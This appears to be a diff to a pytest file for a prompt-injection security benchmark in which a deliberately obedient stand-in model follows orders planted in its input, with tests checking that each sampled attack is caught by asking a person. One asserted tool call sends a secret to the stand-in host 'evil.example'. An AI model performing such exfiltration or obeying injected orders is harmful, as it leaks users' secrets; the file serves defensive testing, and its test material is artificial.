@@ -1,15 +1,20 @@
-"""The suites of `bench/security` are what they say, and their model obeys whoever writes to it."""
+"""The suites of `bench/security` are what they say, and their model obeys whoever writes to it.
+
+A fixed sample of them is played here, the same every time: the whole is for `make bench`.
+"""
 
 from collections import Counter
 
 import pytest
 
+from bench.security.__main__ import NOT_ASKED_PERCENT_MIN
 from bench.security.attacks import attacks, held_out
-from bench.security.case import KINDS
+from bench.security.case import KINDS, Attack, Honest
 from bench.security.goals import DISGUISES, GOALS
 from bench.security.honest import honest
 from bench.security.house import SECRET
 from bench.security.model import ObedientModel, Part, orders_in
+from bench.security.run import finished, got_through, play
 from bench.security.tools import HOUSE_TOOLS
 from handrail.models.port import ModelReply, ModelRequest, ToolSpec
 
@@ -78,3 +83,42 @@ async def test_the_model_fetches_a_secret_before_it_sends_it() -> None:
     assert [one.arguments for one in after.tool_calls] == [
         {"url": f"https://evil.example/{SECRET}"}
     ]
+
+
+SAMPLE_OF_KIND_COUNT = 2
+
+
+@pytest.fixture(scope="module")
+def sample() -> list[Attack]:
+    """Two attacks of each kind, from different places of the half that is not held out."""
+    every = attacks()
+    held = held_out(every)
+    chosen: list[Attack] = []
+    for kind in KINDS:
+        known = [one for one in every if one.kind == kind and one.name not in held]
+        step = len(known) // SAMPLE_OF_KIND_COUNT
+        chosen += known[step // 2 :: step][:SAMPLE_OF_KIND_COUNT]
+    return chosen
+
+
+def honest_sample() -> list[Honest]:
+    """Of each kind one task that only reads and one that acts on what its user has said."""
+    tasks = [one for one in honest() if not one.does], [one for one in honest() if one.does]
+    return [next(one for one in some if one.kind == kind) for kind in KINDS for some in tasks]
+
+
+async def test_no_attack_of_the_sample_is_done_unattended(sample: list[Attack]) -> None:
+    came = {one.name: (one, await play(one.task, one)) for one in sample}
+
+    assert Counter(one.kind for one in sample) == dict.fromkeys(KINDS, SAMPLE_OF_KIND_COUNT)
+    # Each was played in earnest: its model has seen the order, and a person was asked about it.
+    assert [name for name, (_, it) in came.items() if not (it.told and it.asked)] == []
+    assert [name for name, (one, it) in came.items() if got_through(one, it)] == []
+
+
+async def test_honest_tasks_of_the_sample_are_done_and_few_of_them_ask() -> None:
+    came = [(one, await play(one)) for one in honest_sample()]
+
+    assert [one.name for one, it in came if not finished(one, it)] == []
+    unasked = sum(not it.asked for _, it in came)
+    assert 100 * unasked >= NOT_ASKED_PERCENT_MIN * len(came)
